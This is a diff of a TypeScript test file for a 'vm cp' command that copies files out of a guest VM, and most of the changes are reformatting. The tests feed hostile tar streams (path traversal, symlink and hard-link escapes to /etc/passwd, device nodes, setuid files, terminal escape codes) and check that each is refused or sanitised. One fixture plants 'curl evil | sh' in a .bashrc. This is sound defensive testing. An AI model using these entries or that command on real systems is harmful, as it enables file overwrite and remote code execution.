@@ -2,7 +2,21 @@ import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
 import { createHash } from 'node:crypto';
-import { chmodSync, existsSync, lchownSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, readlinkSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  chmodSync,
+  existsSync,
+  lchownSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  readdirSync,
+  readlinkSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { nullLogger } from '../../src/core/log.js';
@@ -53,7 +67,10 @@ before(async () => {
   server = new RpcServer({ socketPath: join(dir, 'run', 'd.sock'), log: nullLogger, methods: vmMethods(svc), gid: NOBODY });
   await server.listen();
   world = join(dir, 'world');
-  for (const [who, uid] of [['root', 0], ['nobody', NOBODY]] as const) {
+  for (const [who, uid] of [
+    ['root', 0],
+    ['nobody', NOBODY],
+  ] as const) {
     mkdirSync(join(dir, `home-${who}`), { mode: 0o700 });
     lchownSync(join(dir, `home-${who}`), uid, uid);
   }
@@ -70,7 +87,10 @@ after(async () => {
 type Who = 'root' | 'nobody';
 
 function banger(who: Who, args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
-  const argv = who === 'root' ? [process.execPath, BANGER, ...args] : ['setpriv', `--reuid=${NOBODY}`, `--regid=${NOBODY}`, '--clear-groups', process.execPath, BANGER, ...args];
+  const argv =
+    who === 'root'
+      ? [process.execPath, BANGER, ...args]
+      : ['setpriv', `--reuid=${NOBODY}`, `--regid=${NOBODY}`, '--clear-groups', process.execPath, BANGER, ...args];
   // the CLI's own HOME (its compile cache goes there) is outside the world the test watches
   const child = spawn(argv[0]!, argv.slice(1), { env: { ...env, HOME: join(dir, `home-${who}`) } });
   let out = '';
@@ -112,7 +132,13 @@ function snapshot(root: string): Map<string, string> {
   const m = new Map<string, string>();
   for (const p of walk(root)) {
     const s = lstatSync(p);
-    const kind = s.isDirectory() ? 'dir' : s.isSymbolicLink() ? `symlink->${readlinkSync(p)}` : s.isFile() ? `file:${createHash('sha256').update(readFileSync(p)).digest('hex').slice(0, 16)}:${s.mtimeMs}` : `other:${s.mode.toString(8)}`;
+    const kind = s.isDirectory()
+      ? 'dir'
+      : s.isSymbolicLink()
+        ? `symlink->${readlinkSync(p)}`
+        : s.isFile()
+          ? `file:${createHash('sha256').update(readFileSync(p)).digest('hex').slice(0, 16)}:${s.mtimeMs}`
+          : `other:${s.mode.toString(8)}`;
     m.set(p.slice(root.length) || '/', `${kind} ${(s.mode & 0o7777).toString(8)} ${s.uid}:${s.gid}`);
   }
   return m;
@@ -133,18 +159,54 @@ const REFUSED: Array<{ name: string; entries: TEntry[]; says: RegExp }> = [
   { name: ".bashrc beside SRC's name", entries: [F('hostname'), F('.bashrc', 'curl evil | sh\n')], says: /'\.bashrc'.*outside 'hostname'/ },
   { name: '. with mode 0777 (chmod of the destination)', entries: [D('.', { mode: 0o777 }), F('hostname')], says: /'\.'.*'\.' component/ },
   { name: './ prefix', entries: [D('./', { mode: 0o777 }), F('./hostname')], says: /'\.\/'.*'\.' component/ },
-  { name: 'write through a symlink already in the destination (link/x)', entries: [F('hostname'), F('link/x', 'through\n')], says: /'link\/x'.*outside 'hostname'/ },
-  { name: 'write through the symlink named like SRC, without its directory entry', entries: [F('hostname/x', 'through\n')], says: /'hostname\/x'.*parent directory 'hostname' did not come before it/ },
-  { name: 'write through a symlink the stream made', entries: [D('hostname'), { path: 'hostname/l', type: 'symlink', linkpath: '../../outside/dir' }, F('hostname/l/x')], says: /'hostname\/l\/x'.*parent 'hostname\/l' is a symlink/ },
-  { name: 'SRC itself a symlink, then a file under it', entries: [{ path: 'hostname', type: 'symlink', linkpath: '/tmp' }, F('hostname/x')], says: /parent 'hostname' is a symlink/ },
+  {
+    name: 'write through a symlink already in the destination (link/x)',
+    entries: [F('hostname'), F('link/x', 'through\n')],
+    says: /'link\/x'.*outside 'hostname'/,
+  },
+  {
+    name: 'write through the symlink named like SRC, without its directory entry',
+    entries: [F('hostname/x', 'through\n')],
+    says: /'hostname\/x'.*parent directory 'hostname' did not come before it/,
+  },
+  {
+    name: 'write through a symlink the stream made',
+    entries: [D('hostname'), { path: 'hostname/l', type: 'symlink', linkpath: '../../outside/dir' }, F('hostname/l/x')],
+    says: /'hostname\/l\/x'.*parent 'hostname\/l' is a symlink/,
+  },
+  {
+    name: 'SRC itself a symlink, then a file under it',
+    entries: [{ path: 'hostname', type: 'symlink', linkpath: '/tmp' }, F('hostname/x')],
+    says: /parent 'hostname' is a symlink/,
+  },
   { name: 'char device 1:1 as SRC', entries: [{ path: 'hostname', type: 'char', mode: 0o666, devmajor: 1, devminor: 1 }], says: /'hostname'.*char device 1:1/ },
-  { name: 'char device 1:3 under SRC', entries: [D('hostname'), { path: 'hostname/null', type: 'char', mode: 0o666, devmajor: 1, devminor: 3 }], says: /char device 1:3/ },
+  {
+    name: 'char device 1:3 under SRC',
+    entries: [D('hostname'), { path: 'hostname/null', type: 'char', mode: 0o666, devmajor: 1, devminor: 3 }],
+    says: /char device 1:3/,
+  },
   { name: 'block device', entries: [D('hostname'), { path: 'hostname/sda', type: 'block', devmajor: 8, devminor: 0 }], says: /block device 8:0/ },
   { name: 'FIFO', entries: [{ path: 'hostname', type: 'fifo', mode: 0o666 }], says: /'hostname'.*FIFO/ },
-  { name: 'hard link to /etc/passwd', entries: [D('hostname'), { path: 'hostname/pw', type: 'link', linkpath: '/etc/passwd' }], says: /'hostname\/pw'.*hard link target '\/etc\/passwd'.*absolute/ },
-  { name: 'hard link out with ..', entries: [D('hostname'), { path: 'hostname/pw', type: 'link', linkpath: 'hostname/../../../etc/passwd' }], says: /'hostname\/pw'.*'\.\.' component/ },
-  { name: 'hard link to a name outside the copy', entries: [F('hostname'), { path: 'hostname2', type: 'link', linkpath: '.bashrc' }], says: /'hostname2'.*outside 'hostname'/ },
-  { name: 'hard link to a directory of the copy', entries: [D('hostname'), { path: 'hostname/d', type: 'link', linkpath: 'hostname' }], says: /is a directory/ },
+  {
+    name: 'hard link to /etc/passwd',
+    entries: [D('hostname'), { path: 'hostname/pw', type: 'link', linkpath: '/etc/passwd' }],
+    says: /'hostname\/pw'.*hard link target '\/etc\/passwd'.*absolute/,
+  },
+  {
+    name: 'hard link out with ..',
+    entries: [D('hostname'), { path: 'hostname/pw', type: 'link', linkpath: 'hostname/../../../etc/passwd' }],
+    says: /'hostname\/pw'.*'\.\.' component/,
+  },
+  {
+    name: 'hard link to a name outside the copy',
+    entries: [F('hostname'), { path: 'hostname2', type: 'link', linkpath: '.bashrc' }],
+    says: /'hostname2'.*outside 'hostname'/,
+  },
+  {
+    name: 'hard link to a directory of the copy',
+    entries: [D('hostname'), { path: 'hostname/d', type: 'link', linkpath: 'hostname' }],
+    says: /is a directory/,
+  },
   { name: '../x', entries: [F('hostname'), F('../x')], says: /'\.\.\/x'.*'\.\.' component/ },
   { name: 'hostname/../x', entries: [D('hostname'), F('hostname/../x')], says: /'\.\.' component/ },
   { name: `absolute ${ABS}`, entries: [F('hostname'), F(ABS)], says: /absolute path/ },
@@ -193,7 +255,8 @@ for (const who of ['root', 'nobody'] as const) {
           }
         })();
         if (r.code === 0) bad('the copy succeeded');
-        else if (err?.code !== 'E_UNSAFE_ENTRY' || !c.says.test(err.message) || !/^vm cp: evil:\/etc\/hostname: refused entry/.test(err.message)) bad(`the error is not E_UNSAFE_ENTRY saying ${c.says}: ${r.stdout.trim()} ${r.stderr.trim()}`);
+        else if (err?.code !== 'E_UNSAFE_ENTRY' || !c.says.test(err.message) || !/^vm cp: evil:\/etc\/hostname: refused entry/.test(err.message))
+          bad(`the error is not E_UNSAFE_ENTRY saying ${c.says}: ${r.stdout.trim()} ${r.stderr.trim()}`);
         for (const l of diff(before, snapshot(world))) bad(`changed ${l}`);
         if (existsSync(ABS)) bad(`${ABS} was written`);
         if (existsSync(join(dir, 'x')) || existsSync(join(world, 'x'))) bad('../x was written');
@@ -206,11 +269,16 @@ for (const who of ['root', 'nobody'] as const) {
     assert.equal(n, REFUSED.length * DESTS.length);
   });
 
-  test(`vm cp out of a hostile guest as ${who}: a setuid-root file is copied without setuid, the destination keeps its mode, symlinks there are replaced, not followed`, { skip }, async () => {
+  test(`vm cp out of a hostile guest as ${who}: a setuid-root file is copied without setuid, the destination keeps its mode, symlinks there are replaced, not followed`, {
+    skip,
+  }, async () => {
     for (const d of DESTS) {
       makeWorld(who);
       const before = snapshot(world);
-      agent!.script = { stat: () => ({ exists: true, type: 'file' }), tarOut: () => ({ tar: makeTar([F('hostname', 'guest-name\n', { mode: 0o6777, uid: 0, gid: 0 })]) }) };
+      agent!.script = {
+        stat: () => ({ exists: true, type: 'file' }),
+        tarOut: () => ({ tar: makeTar([F('hostname', 'guest-name\n', { mode: 0o6777, uid: 0, gid: 0 })]) }),
+      };
       const r = await banger(who, ['vm', 'cp', 'evil:/etc/hostname', d.dst()]);
       assert.equal(r.code, 0, r.stderr);
       const st = lstatSync(d.final());
@@ -225,19 +293,31 @@ for (const who of ['root', 'nobody'] as const) {
     }
     // a directory over the symlink named like it: the symlink is replaced, its target stays empty
     makeWorld(who);
-    agent!.script = { stat: () => ({ exists: true, type: 'dir' }), tarOut: () => ({ tar: makeTar([D('hostname', { mode: 0o3777 }), F('hostname/x', 'in\n', { mode: 0o4755 })]) }) };
+    agent!.script = {
+      stat: () => ({ exists: true, type: 'dir' }),
+      tarOut: () => ({ tar: makeTar([D('hostname', { mode: 0o3777 }), F('hostname/x', 'in\n', { mode: 0o4755 })]) }),
+    };
     const r = await banger(who, ['vm', 'cp', 'evil:/etc/hostname', join(world, 'home')]);
     assert.equal(r.code, 0, r.stderr);
     assert.ok(lstatSync(join(world, 'home', 'hostname')).isDirectory());
     assert.equal(lstatSync(join(world, 'home', 'hostname')).mode & 0o7777, 0o777 & ~umask);
     assert.equal(lstatSync(join(world, 'home', 'hostname', 'x')).mode & 0o7777, 0o755 & ~umask);
     assert.deepEqual(readdirSync(join(world, 'outside', 'dir')), []);
-    assert.deepEqual(readdirSync(join(world, 'home')).filter((n) => n.startsWith('.banger-cp-')), []);
+    assert.deepEqual(
+      readdirSync(join(world, 'home')).filter((n) => n.startsWith('.banger-cp-')),
+      [],
+    );
   });
 }
 
-test('vm cp out: -a restores owners and exact modes as root (setuid still dropped); as nobody it is refused politely and owners are not restored', { skip }, async () => {
-  const tar = makeTar([D('hostname', { mode: 0o775, uid: 1234, gid: 2345 }), F('hostname/f', 'f\n', { mode: 0o4777, uid: 1234, gid: 2345 }), { path: 'hostname/l', type: 'symlink', linkpath: 'f', uid: 1234, gid: 2345 }]);
+test('vm cp out: -a restores owners and exact modes as root (setuid still dropped); as nobody it is refused politely and owners are not restored', {
+  skip,
+}, async () => {
+  const tar = makeTar([
+    D('hostname', { mode: 0o775, uid: 1234, gid: 2345 }),
+    F('hostname/f', 'f\n', { mode: 0o4777, uid: 1234, gid: 2345 }),
+    { path: 'hostname/l', type: 'symlink', linkpath: 'f', uid: 1234, gid: 2345 },
+  ]);
   agent!.script = { stat: () => ({ exists: true, type: 'dir' }), tarOut: () => ({ tar }) };
   makeWorld('root');
   const r = await banger('root', ['vm', 'cp', '-a', 'evil:/etc/hostname', join(world, 'home', 'a')]);
@@ -262,7 +342,9 @@ test('vm cp out: -a restores owners and exact modes as root (setuid still droppe
   assert.deepEqual([s3.mode & 0o7777, s3.uid], [0o777 & ~umask, NOBODY]);
 });
 
-test('vm cp out: a well-behaved tree (read-only directory, hard link, symlink, 3 MiB through the credit window) lands whole; a second copy merges; a failing guest tar or a cut stream leaves nothing', { skip }, async () => {
+test('vm cp out: a well-behaved tree (read-only directory, hard link, symlink, 3 MiB through the credit window) lands whole; a second copy merges; a failing guest tar or a cut stream leaves nothing', {
+  skip,
+}, async () => {
   const big = Buffer.alloc(3 << 20);
   for (let i = 0; i < big.length; i += 4) big.writeUInt32LE((i * 2654435761) >>> 0, i);
   const entries: TEntry[] = [
@@ -310,16 +392,25 @@ test('vm cp out: a well-behaved tree (read-only directory, hard link, symlink, 3
     assert.equal(lstatSync(join(dst, 'tree')).mode & 0o777, 0o701);
     assert.equal(readFileSync(join(dst, 'tree', 'mine'), 'utf8'), 'kept\n');
     assert.equal(readFileSync(join(dst, 'tree', 'ro', 'f'), 'utf8'), 'read-only dir\n');
-    assert.deepEqual(readdirSync(dst).filter((n) => n.startsWith('.banger-cp-')), []);
-    assert.deepEqual(readdirSync(join(world, 'home')).filter((n) => n.startsWith('.banger-cp-')), []);
+    assert.deepEqual(
+      readdirSync(dst).filter((n) => n.startsWith('.banger-cp-')),
+      [],
+    );
+    assert.deepEqual(
+      readdirSync(join(world, 'home')).filter((n) => n.startsWith('.banger-cp-')),
+      [],
+    );
 
     // tar in the guest fails after sending a good stream: nothing is copied
     const before = snapshot(world);
-    agent!.script = { stat: () => ({ exists: true, type: 'dir' }), tarOut: () => ({ tar, exit: 2, stderr: 'tar: something vanished\x1b]0;owned\x07\x1b[2J\n' }) };
+    agent!.script = {
+      stat: () => ({ exists: true, type: 'dir' }),
+      tarOut: () => ({ tar, exit: 2, stderr: 'tar: something vanished\x1b]0;owned\x07\x1b[2J\n' }),
+    };
     const f = await banger(who, ['vm', 'cp', 'evil:/srv/tree', join(world, 'home', 'failed')]);
     assert.notEqual(f.code, 0);
     assert.match(f.stderr, /tar in the guest failed \(exit 2\)/);
-    assert.match(f.stderr, /something vanished\?\]0;owned\?\?\[2J/, 'the guest\'s stderr is shown without terminal control sequences');
+    assert.match(f.stderr, /something vanished\?\]0;owned\?\?\[2J/, "the guest's stderr is shown without terminal control sequences");
     // a stream cut in the middle of the big file, and one that is not tar at all
     for (const [bad, says] of [
       [tar.subarray(0, 1 << 20), /truncated/],
